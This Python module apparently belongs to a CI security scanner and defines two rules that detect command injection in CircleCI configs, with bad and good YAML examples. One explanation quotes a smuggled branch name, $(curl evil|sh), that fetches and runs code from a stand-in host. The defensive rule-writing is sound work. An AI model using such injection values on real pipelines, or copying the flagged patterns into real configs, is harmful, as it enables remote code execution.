"""CircleCI."""

from __future__ import annotations

from ...finding import Example, Rule
from .. import ci
from ..match import Custom

RULES: tuple[Rule, ...] = (
    Rule(
        id="circleci-template-in-command",
        family="config",
        title="text that somebody outside may write is pasted into a command",
        severity="high",
        tier="warn",
        cwe=94,
        why="<< pipeline… >> is replaced before the shell reads the command; a branch named $(curl evil|sh) runs as code.",
        fix='Use the environment variable in quotes ("$CIRCLE_BRANCH"), or hand the value over in environment:.',
        match=Custom(("circleci",), ci.circle_templates, ("run", "command")),
        equivalents=("checkov:CKV_CIRCLECIPIPELINES_6",),
        references=("https://circleci.com/docs/guides/orchestrate/pipeline-variables/",),
        bad=(
            Example("jobs:\n  a:\n    steps:\n      - run: echo «<< pipeline.git.branch >>»\n"),
            Example(
                'jobs:\n  a:\n    steps:\n      - run:\n          command: |\n            make\n            deploy "«<<pipeline.git.tag>>»"\n'
            ),
        ),
        good=(
            Example('jobs:\n  a:\n    steps:\n      - run: echo << pipeline.number >> "$CIRCLE_BRANCH"\n'),
            Example(
                'jobs:\n  a:\n    steps:\n      - run:\n          environment:\n            BRANCH: << pipeline.git.branch >>\n          command: echo "$BRANCH"\n'
            ),
        ),
    ),
    Rule(
        id="circleci-parameter-in-command",
        family="config",
        title="a free text parameter is pasted into a command",
        severity="medium",
        tier="audit",
        cwe=94,
        confidence="low",
        why="<< parameters… >> is replaced before the shell reads the command: whoever starts the pipeline, or uses the command, writes code there.",
        fix="Hand the value over in environment: and use the variable in quotes, or give the parameter an enum.",
        match=Custom(("circleci",), ci.circle_parameters, ("run", "command")),
        equivalents=("checkov:CKV_CIRCLECIPIPELINES_6",),
        references=("https://circleci.com/docs/guides/orchestrate/pipeline-variables/",),
        bad=(
            Example(
                "parameters:\n  target: {type: string, default: app}\njobs:\n  a:\n    steps:\n      - run: deploy «<< pipeline.parameters.target >>»\n"
            ),
        ),
        good=(
            Example(
                "parameters:\n  target: {type: enum, enum: [app, web], default: app}\njobs:\n  a:\n    steps:\n      - run: deploy << pipeline.parameters.target >>\n"
            ),
            Example(
                'parameters:\n  target: {type: string}\njobs:\n  a:\n    steps:\n      - run:\n          environment: {TARGET: << pipeline.parameters.target >>}\n          command: deploy "$TARGET"\n'
            ),
        ),
    ),
)
